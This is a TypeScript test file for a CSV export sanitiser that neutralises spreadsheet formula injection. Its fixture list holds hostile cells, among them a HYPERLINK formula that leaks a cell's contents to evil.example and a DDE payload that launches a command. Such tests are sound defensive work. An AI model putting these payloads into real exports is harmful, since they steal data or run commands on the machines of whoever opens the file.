import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutralizeCsvCell, restoreCsvCell, toSafeCsv } from './csv-cell';

const hostile = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Open review")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  "=cmd|' /C calc'!A0",
];

describe('CSV cells', () => {
  it('prefixes every cell a spreadsheet would read as a formula with a single quote', () => {
    for (const cell of hostile) expect(neutralizeCsvCell(cell)).toBe(`'${cell}`);
  });

  it('leaves ordinary text, numbers and booleans alone', () => {
    for (const cell of ['Ana Lima', 'a=b', 'x-1', "it's", '', ' plain', 'mail@example.org'])
      expect(neutralizeCsvCell(cell)).toBe(cell);
    expect(neutralizeCsvCell(-5)).toBe(-5);
    expect(neutralizeCsvCell(true)).toBe(true);
    expect(neutralizeCsvCell(null)).toBe('');
  });

  it('is undone exactly by restoreCsvCell, even for text that already starts with a quote', () => {
    const samples = [...hostile, "'=1+1", "''-x", "'plain", "'", 'Ana', '', '=', "'@"];
    for (const s of samples) expect(restoreCsvCell(String(neutralizeCsvCell(s)))).toBe(s);
    // Different inputs never give the same cell.
    expect(new Set(samples.map((s) => neutralizeCsvCell(s))).size).toBe(new Set(samples).size);
  });

  it('writes no cell of a whole file that starts a formula', () => {
    const csv = toSafeCsv([['name', 'n'], ...hostile.map((h, i) => [h, i])]);
    const rows = parse(csv, { relax_quotes: true }) as string[][];
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.slice(1).map((r) => restoreCsvCell(r[0] as string))).toEqual(hostile);
  });
});
